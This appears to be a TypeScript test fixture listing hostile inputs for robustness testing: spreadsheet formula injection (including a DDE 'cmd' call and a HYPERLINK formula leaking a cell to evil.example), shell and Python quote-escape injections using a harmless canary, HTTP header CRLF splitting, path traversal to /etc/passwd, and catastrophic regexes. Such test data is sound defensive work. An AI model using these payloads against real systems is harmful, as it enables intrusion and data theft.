import { CANARY, inputs, type HostileInput } from './input.js';

/** What a spreadsheet takes for a formula. */
export const spreadsheet: readonly HostileInput[] = inputs('spreadsheet', {
  'an equals sign': "=cmd|' /C calc'!A0",
  'a plus': '+1+cmd|x',
  'a minus': '-2+3+cmd|x',
  'an at sign': '@SUM(1+1)*cmd|x',
  'a tab': '\t=1+1',
  'a carriage return': '\r=1+1',
  'a link': '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  'quotes, commas and lines': '","=1+1\r\n=2+2,"x',
  'a formula behind a space': ' =1+1',
});

/** What a shell or a language would do, were it not quoted. */
export const shell: readonly HostileInput[] = inputs('shell', {
  'a substitution': '$(touch __executed) `touch __executed`',
  'an end of single quotes': "'; touch __executed; '",
  'an end of double quotes': '"; touch __executed; "',
  'a pipe': '| touch __executed & touch __executed',
  'a line of its own': 'x\ntouch __executed\n',
  'an option': '--execute=touch __executed',
  'a history expansion': '!! !$ !-1 "!"',
  'an end of a string of JavaScript': `');${CANARY};//`,
  'an end of a string after a backslash': `\\');${CANARY};//`,
  'an end of a string of Python': '"); __import__("os").system("touch __executed") #',
  'three quotes': '"""\'\'\'',
  backslashes: '\\\\\\',
  escapes: '\\x41\\u0041\\n\\101\\',
  'a comment': '*/ /* // # -- ;',
});

/** What a header or a path is misled by. */
export const headers: readonly HostileInput[] = [
  ...inputs('header', {
    'a header of its own': 'chat\r\nSet-Cookie: a=b',
    'a response of its own': 'x\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>',
    'a line feed': 'a\nb: c',
    'legal characters of a token': "!#$%&'*+-.^_`|~",
    'a token that is a key': '__proto__',
    'a list': 'a, b,,c',
  }),
  ...inputs('path', {
    'up and up': '../../../../etc/passwd',
    'up on Windows': '..\\..\\windows\\win.ini',
    'a device': 'CON',
    'a name that is hidden': '.htaccess',
    'a NUL before the ending': 'a.har\0.exe',
    'percent signs': '%2e%2e%2f%00%0d%0a%c0%ae',
    'an incomplete percent sign': '%%%E0%A4%A',
  }),
];

/** Expressions that would take for ever, and signs that mean something in filters and paths. */
export const patterns: readonly HostileInput[] = inputs('pattern', {
  'nested repetition': '/^(a+)+$/',
  'alternatives that overlap': '/(a|aa)+$/',
  'a text for it': `${'a'.repeat(40)}!`,
  'an expression without end': '/(((((',
  'operators of the filter': 'dir:sent -x or "y" #1 size:>1k hex:00ff',
  'a path': '$..[?(@.constructor)]',
  'a path without end': '$[?@.a[?@.b[?@.c[?@',
  'a pointer': '#/definitions/__proto__/~0~1',
});
